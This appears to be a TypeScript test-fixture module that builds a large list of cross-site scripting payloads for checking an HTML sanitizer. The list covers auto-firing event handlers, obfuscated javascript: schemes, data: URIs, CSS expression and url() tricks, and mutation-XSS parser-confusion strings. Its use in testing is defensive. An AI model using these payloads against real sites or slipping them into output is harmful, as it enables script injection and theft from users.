import { clobbering, pageWide, requests, tricks, vectors } from './html-tricks';

/** What every payload tries to do; tests read `window.__xss`. */
export const CODE = 'window.__xss=1';
/** The host that every payload tries to reach; reserved, so that nothing answers. */
export const FOREIGN = 'https://foreign.invalid';

const SCRIPT = `<script>${CODE}</script>`;
const IMAGE = `<img src=x onerror=${CODE}>`;

/** The entries of a text, which semicolons part. */
const list = (text: string) => text.trim().split(/\s*;\s*/);

/** Elements that call a handler by themselves, or when a reader comes near them. */
const HANDLERS = list(`
  img src=x|onerror ; img src=x|onload ; image src=x|onerror ; svg|onload ; svg|onbegin ;
  body|onload ; body|onpageshow ; body|onhashchange ; body|onscroll ; body|onresize ; body|onfocus ;
  html|onclick ; input autofocus|onfocus ; textarea autofocus|onfocus ; select autofocus|onfocus ;
  keygen autofocus|onfocus ; details open|ontoggle ; marquee|onstart ; marquee|onfinish ;
  video src=x|onerror ; audio src=x|onerror ; video autoplay|oncanplay ; source src=x|onerror ;
  track src=x|onerror ; object data=x|onerror ; embed src=x|onload ; iframe|onload ; frameset|onload ;
  style|onload ; link rel=stylesheet href=x|onerror ; script src=x|onerror ; p|onclick ;
  p|onmouseover ; div|onpointerenter ; a href=#|onfocus ; b style=animation-name:x|onanimationstart ;
  div style=transition:1s|ontransitionend ; div popover|onbeforetoggle ; form|onsubmit ; td|oncopy ;
  li|ondrag ; h2|oncontextmenu ; em|onwheel ; x-y contenteditable|onbeforeinput ;
  dialog open|onclose ; meter|onkeydown
`).map((row) => row.split('|'));
const handlers = HANDLERS.flatMap(([tag = '', event = ''], at) => {
  const name = at % 3 === 0 ? event.toUpperCase() : event;
  const gap = [' ', '\n', '/', '\t', '\f'][at % 5] ?? ' ';
  return [`<${tag}${gap}${name}=${at % 2 === 0 ? `"${CODE}"` : CODE}>text</${tag.split(' ')[0]}>`];
});

/** Ways to write the scheme so that a filter does not see it. */
export const SCRIPT_ADDRESSES = [
  'javascript:',
  'JavaScript:',
  'JAVASCRIPT:',
  ' javascript:',
  '\tjavascript:',
  '\njavascript:',
  '\0javascript:',
  'java\tscript:',
  'java\nscript:',
  'java\r\nscript:',
  'j\na\nv\na\ns\nc\nr\ni\np\nt:',
  'javascript\t:',
  'javascript&colon;',
  'java&Tab;script:',
  'java&NewLine;script:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  '&#x6a&#x61vascript:',
  '&#1;javascript:',
  '&#14;javascript:',
  '&#x20;javascript:',
  '\u00a0javascript:',
  '\u200bjavascript:',
  '\ufeffjavascript:',
  '\u2028javascript:',
  'java\u00adscript:',
  'javascript:/*--></title>*/',
  'javascript://a.example/%0a',
  'feed:javascript:',
  'view-source:javascript:',
  'vbscript:',
  'livescript:',
  'mocha:',
  'jar:javascript:',
].map((scheme) => `${scheme}${CODE}`);
const links = SCRIPT_ADDRESSES.map((address) => `<a href="${address}">text</a>`);

/** Every attribute that takes an address. */
const CARRIERS = list(`
  iframe src ; frame src ; object data ; embed src ; form action ; button formaction ;
  input type=submit formaction ; input type=image src ; area href ; base href ; link rel=import href ;
  link rel=stylesheet href ; img src ; img srcset ; img lowsrc ; img dynsrc ; img longdesc ;
  video src ; video poster ; audio src ; source src ; track src ; body background ; table background ;
  td background ; blockquote cite ; q cite ; ins cite ; applet code ; isindex action ; bgsound src ;
  html manifest ; head profile ; command icon ; a ping ; portal src ; fencedframe src ; div itemid ;
  menuitem icon
`);
const carriers = CARRIERS.map(
  (carrier) => `<${carrier}="javascript:${CODE}">text</${carrier.split(' ')[0]}>`,
);

const data = [
  `<a href="data:text/html,${SCRIPT}">a</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">a</a>`,
  `<iframe src="data:text/html,${SCRIPT}"></iframe>`,
  `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>"></object>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>">`,
  `<script src="data:,${CODE}"></script>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(${FOREIGN})}">`,
];

const framed = ['<', '&lt;', '&#60;', '&#x3c;', '&amp;lt;'].map(
  (sign) => `<iframe srcdoc="${sign}script>parent.${CODE}${sign}/script>"></iframe>`,
);

const styles = [
  `<style>*{background:url(${FOREIGN}/a)}</style>a`,
  `<style>@import '${FOREIGN}/a.css';</style>a`,
  `<style><img src="</style>${IMAGE}">`,
  `<p style="background:url(${FOREIGN}/a)">a</p>`,
  `<p style="width:expression(${CODE})">a</p>`,
  `<p style="-moz-binding:url(${FOREIGN}/a#x)">a</p>`,
  `<p style="behavior:url(${FOREIGN}/a.htc)">a</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">a</p>`,
  `<font style='font-family:"</style>${IMAGE}'>a</font>`,
  `<div style="content:url(${FOREIGN}/a)">a</div>`,
];

/** Trees that a parser builds differently the second time. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style></annotation-xml></math>`,
  `<svg><foreignObject><p>${SCRIPT}</p></foreignObject></svg>`,
  `<svg><title><style>${IMAGE}</style></title></svg>`,
  `<svg><desc><noscript><img title="</noscript>${IMAGE}"></desc></svg>`,
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<noembed><img title="</noembed>${IMAGE}"></noembed>`,
  `<noframes><img title="</noframes>${IMAGE}"></noframes>`,
  `<xmp><p title="</xmp>${IMAGE}"></xmp>`,
  `<select><style></select>${IMAGE}</style>`,
  `<table><caption><svg><style><table><tr><td>${IMAGE}`,
  `<svg><![CDATA[><img src=x onerror=${CODE}>]]></svg>`,
  `<math><mi><![CDATA[</mi>${IMAGE}]]></math>`,
  `<template><svg><style><img title="</style></template>${IMAGE}"></style></svg>`,
  `<div><template shadowrootmode=open>${SCRIPT}</template></div>`,
  `<table><td>${'<b>'.repeat(3)}<table><mglyph><style><img title="</style>${IMAGE}">`,
  `<p><svg><p><style><g title="</style>${IMAGE}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${IMAGE}">`,
  `<svg><style>&lt;img src=x onerror=${CODE}&gt;</style></svg>`,
  `<title><svg></title>${IMAGE}</svg>`,
  `<textarea><img title="</textarea>${IMAGE}">`,
  `<option><style></option></select>${IMAGE}</style>`,
];

/** HTML that tries to act, written from the public categories of such tries. */
export const HTML_PAYLOADS: readonly string[] = [
  handlers,
  links,
  carriers,
  data,
  framed,
  styles,
  mutations,
  vectors,
  clobbering,
  pageWide,
  requests,
  tricks,
].flat();
